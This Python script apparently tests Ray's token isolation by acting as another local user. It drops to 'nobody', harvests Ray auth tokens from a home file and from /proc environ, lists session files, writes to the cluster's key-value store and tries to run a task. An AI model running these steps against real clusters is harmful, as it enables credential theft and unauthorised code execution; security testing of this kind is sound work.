"""Another user of the machine: looks for the token of a Ray, tries to write its key-value store and to run a task.

`python intruder.py ADDRESS HOME PID…` changes to an unprivileged user, reads whatever it can, and prints JSON.
"""

from __future__ import annotations

import json
import logging
import os
import sys
from contextlib import suppress
from pathlib import Path

import ray
from ray._private import ray_constants
from ray._raylet import AuthenticationTokenLoader, Config, GcsClient  # type: ignore[attr-defined]  # compiled

NOBODY = 65534
GCS_WAIT = "RAY_gcs_server_port_wait_time_s"  # Ray's own name


def tokens(home: Path, pids: list[int]) -> list[str]:
    """Return every token that this user can read."""
    found = []
    with suppress(OSError):
        found.append((home / ".ray" / "auth_token").read_text())
    for pid in pids:
        with suppress(OSError):
            lines = Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
            found += [line.partition(b"=")[2].decode() for line in lines if line.startswith(b"RAY_AUTH_TOKEN=")]
    return found


def session_files(pids: list[int]) -> list[str]:
    """Return the files of the session that this user can list, found by the command lines that all can read."""
    words = [word for pid in pids for word in Path(f"/proc/{pid}/cmdline").read_text(errors="replace").split("\0")]
    folders = {word.partition("=")[2] for word in words if word.startswith("--session-dir=")}
    return [str(Path(place) / name) for folder in folders for place, _, names in os.walk(folder) for name in names]


def task(address: str) -> str:
    """Join the cluster and run a task in it; return as whom it ran, or what Ray said."""
    ray_constants.ENABLE_RAY_CLUSTER = False  # otherwise it asks at the outer address where 127.0.0.1 is given
    os.environ[GCS_WAIT] = "2"
    try:
        ray.init(address=address, log_to_driver=False, logging_level=logging.CRITICAL)
        return f"ran as uid {ray.get(ray.remote(os.getuid).remote(), timeout=30)}"
    except Exception as error:  # whatever Ray raises: the attack failed
        return f"{type(error).__name__}: {error}"


def main() -> None:
    """Drop all rights, attack, and print what was possible."""
    address, home, pids = sys.argv[1], Path(sys.argv[2]), [int(word) for word in sys.argv[3:]]
    task(address)  # loads all that Ray imports as it goes, from folders that an unprivileged user may not read
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    read = tokens(home, pids)
    os.environ["RAY_AUTH_MODE"] = "token"
    os.environ["RAY_AUTH_TOKEN"] = read[0] if read else "0" * 64
    Config.initialize("")  # what Ray read of the environment when it was imported
    AuthenticationTokenLoader.instance().reset_cache()
    said = "written"
    try:
        client = GcsClient(address=address)
        client.internal_kv_put(b"intruder", b"was here", True, None)
    except Exception as error:  # whatever Ray raises: the attack failed
        said = f"{type(error).__name__}: {error}"
    found = {"tokens": len(read), "files": session_files(pids), "store": said, "task": task(address)}
    print(json.dumps(found))


if __name__ == "__main__":
    main()
